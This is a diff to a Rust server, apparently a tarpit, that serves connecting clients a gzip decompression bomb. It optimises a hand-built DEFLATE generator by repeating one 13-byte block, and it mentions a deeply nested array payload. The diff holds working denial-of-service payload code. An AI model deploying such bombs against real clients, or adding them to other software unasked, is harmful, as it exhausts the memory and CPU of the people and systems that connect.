@@ -129,18 +129,23 @@ pub(crate) fn gzip_bomb(mut stream: TcpStream) -> Served {
 }
 
 /// Gzip of spaces: a literal one, and then, again and again, 258 times what stands one byte before (RFC 1951, fixed codes, from the low bit on).
+///
+/// Such a length and distance have 13 bits: so the same 13 bytes come again and again, and what is computed here is little. The server's time is not to
+/// be taken for the attacked one's.
 fn bomb(bytes: usize) -> Vec<u8> {
-    let mut bits: Vec<bool> = Vec::with_capacity(bytes * 8);
-    bits.extend([true, true, false]);
+    let mut bits = vec![true, true, false];
     let mut push = |code: u16, length: u32| bits.extend((0..length).rev().map(|bit| (code >> bit) & 1 == 1));
     push(0x30 + u16::from(b' '), 8);
-    for _ in 0..bytes * 8 / 13 {
+    for _ in 0..16 {
         push(0b1100_0101, 8);
         push(0, 5);
     }
     push(0, 7);
-    let packed = bits.chunks(8).map(|bits| bits.iter().rev().fold(0, |byte, bit| (byte << 1) | u8::from(*bit)));
-    [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255].into_iter().chain(packed).collect()
+    let packed: Vec<u8> =
+        bits.chunks(8).map(|bits| bits.iter().rev().fold(0, |byte, bit| (byte << 1) | u8::from(*bit))).collect();
+    // 11 bits stand before the first of them.
+    let (begin, end) = packed.split_at(2);
+    [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], begin, &end[..13].repeat(bytes / 13), end].concat()
 }
 
 /// A descriptor of 10⁶ arrays in each other.
